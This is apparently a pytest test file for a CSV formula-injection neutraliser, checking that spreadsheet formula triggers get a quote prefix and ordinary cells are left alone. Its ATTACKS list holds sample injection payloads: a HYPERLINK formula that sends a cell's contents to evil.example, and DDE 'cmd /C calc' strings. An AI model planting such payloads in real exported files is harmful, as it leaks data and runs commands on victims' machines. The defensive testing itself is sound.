"""CSV formula neutralisation (cityops.csv_safe): what a spreadsheet would run gets a quote, through
the csv module and back, and nothing else changes."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cityops.csv_safe import TRIGGERS, neutralise, safe_cell, safe_row

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1dHYPERLINK(1)", "\n=1", "-", "=", "@"]


@pytest.mark.parametrize("cell", ATTACKS)
def test_formulas_become_text(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Acacia Road", "-2.5", "+3", "1e-3", "", "  ", "road-name = A38", "O'Neill"])
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell


def test_only_text_is_touched() -> None:
    assert safe_cell(None) == "" and safe_cell(-2.5) == -2.5 and safe_cell(3) == 3
    row = safe_row({"name": "=1+1", "rst": -1.5}, ["name", "rst", "gone"])
    assert row == {"name": "'=1+1", "rst": -1.5, "gone": ""}


@given(st.text())
def test_no_cell_leaves_starting_with_a_trigger_unless_it_is_a_number(text: str) -> None:
    out = neutralise(text)
    first = out.lstrip(" ")[:1]
    assert out.endswith(text) and (first not in TRIGGERS or out == text)
    buffer = io.StringIO()
    csv.writer(buffer).writerow([out])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [out]  # the csv module keeps it as written
